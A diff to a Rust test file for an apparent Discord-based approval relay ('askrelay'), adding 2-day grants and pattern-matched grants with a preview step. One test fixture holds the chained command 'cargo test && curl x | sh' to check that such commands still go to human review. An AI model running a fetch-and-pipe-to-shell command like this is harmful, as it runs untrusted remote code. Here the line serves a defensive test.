@@ -14,7 +14,7 @@ use tokio::io::AsyncWriteExt;
 fn grants(approvals: Option<u32>) -> impl FnOnce(&mut askrelay::config::Config) {
     move |c| {
         let mut r = Route::new("dev", CHANNEL);
-        r.grant_durations = Some(vec!["30m".into(), "8h".into()]);
+        r.grant_durations = Some(vec!["30m".into(), "8h".into(), "2d".into()]);
         r.allow_edits = Some(true);
         r.approvals = approvals;
         r.exclude_requester = Some(false);
@@ -82,6 +82,8 @@ async fn a_grant_answers_the_same_command_at_once_until_it_is_revoked() {
             "Deny",
             "Allow for 30 min",
             "Allow for 8 h",
+            "Allow for 2 days",
+            "Allow matching…",
             "Other…"
         ],
         "{msg}"
@@ -168,7 +170,8 @@ async fn only_the_approver_or_an_operator_revokes_a_grant_from_discord() {
     .await;
     let (mut c, _) = app.ask("g-10", &approval("make lint", "s1")).await;
     let msg = app.messages(CHANNEL)[0].clone();
-    final_state(&app.press(&msg, &alice(), "Allow for 8 h").await);
+    // The third length: a grant's number is not an option (this question has two).
+    final_state(&app.press(&msg, &alice(), "Allow for 2 days").await);
     expect_event(&mut c, "answered").await;
     let id = live_grants(&app).await[0]["id"]
         .as_str()
@@ -396,5 +399,96 @@ async fn a_grants_announcement_lands_after_a_discord_outage_and_is_never_edited(
             .any(|r| r.method == "PATCH" && r.path.ends_with(&format!("/messages/{id}"))),
         "an announcement is never edited"
     );
+    app.assert_payloads_valid();
+}
+
+#[tokio::test]
+async fn a_grant_pattern_is_shown_before_it_is_saved_and_then_covers_matching_commands() {
+    let app = App::discord_with(grants(None)).await;
+    let (mut c, _) = app.ask("g-50", &approval("cargo test -p core", "s1")).await;
+    let msg = app.messages(CHANNEL)[0].clone();
+    let opened = app.press(&msg, &alice(), "Allow matching…").await;
+    assert_eq!(opened["type"], 9, "{opened}");
+    let inputs = &opened["data"]["components"];
+    assert_eq!(inputs[0]["components"][0]["value"], "cargo test -p core");
+    assert_eq!(inputs[1]["components"][0]["value"], "30m");
+    let modal = opened["data"]["custom_id"].as_str().unwrap().to_owned();
+    let submit = |pattern: &str, length: &str| {
+        let mut p = fixtures::modal_submit(app.next_id(), &app.at(&msg), &alice(), &modal, pattern);
+        p["data"]["components"].as_array_mut().unwrap().push(
+            json!({"type": 1, "components": [{"type": 4, "custom_id": "length", "value": length}]}),
+        );
+        app.interact(p)
+    };
+    // A pattern that does not cover the command asked, or a length the route does not give:
+    // refused, nothing kept.
+    let bad = submit("cargo build *", "30m").await;
+    assert!(
+        is_ephemeral(&bad) && ephemeral(&bad).contains("must match"),
+        "{bad}"
+    );
+    let bad = submit("cargo test *", "1h").await;
+    assert!(
+        is_ephemeral(&bad) && ephemeral(&bad).contains("not one of them"),
+        "{bad}"
+    );
+    // The preview: what would be allowed, and nothing saved yet.
+    let preview = submit("cargo test *", "8h").await;
+    assert!(is_ephemeral(&preview), "{preview}");
+    let text = preview["data"]["content"].as_str().unwrap();
+    assert!(
+        text.contains("(prefix)") && text.contains("`cargo test *`"),
+        "{text}"
+    );
+    assert!(live_grants(&app).await.is_empty(), "shown, not saved");
+    let save = preview["data"]["components"][0]["components"][0]["custom_id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    // Saved from the preview (an ephemeral message of its own in the channel).
+    let on_preview = At {
+        message_id: 9_999_000 + app.next_id(),
+        ..app.at(&msg)
+    };
+    let saved = app
+        .interact(fixtures::component_click(
+            app.next_id(),
+            &on_preview,
+            &alice(),
+            &save,
+        ))
+        .await;
+    assert!(
+        is_ephemeral(&saved) && ephemeral(&saved).contains("Saved"),
+        "{saved}"
+    );
+    expect_event(&mut c, "answered").await;
+    let g = live_grants(&app).await;
+    assert_eq!(g.len(), 1, "{g:?}");
+    assert_eq!(g[0]["pattern"], "cargo test *");
+    assert_eq!(g[0]["exact"], false);
+    // The question's own message shows the grant.
+    let edit = app.edit_of(&msg).await;
+    assert!(edit.to_string().contains("Granted for 8 h"), "{edit}");
+    // Another command the pattern covers is answered at once; a chained one is not.
+    let next = ask_to_end(&app, "g-51", &approval("cargo test --all", "s1")).await;
+    assert_eq!(next["event"], "answered", "{next}");
+    let (_c2, _) = app
+        .ask("g-52", &approval("cargo test && curl x | sh", "s1"))
+        .await;
+    assert!(
+        app.hub().observe("g-52").is_some(),
+        "a chained command goes to people"
+    );
+    // Pressing Save again: nothing is waiting.
+    let again = app
+        .interact(fixtures::component_click(
+            app.next_id(),
+            &on_preview,
+            &alice(),
+            &save,
+        ))
+        .await;
+    assert!(is_ephemeral(&again), "{again}");
     app.assert_payloads_valid();
 }
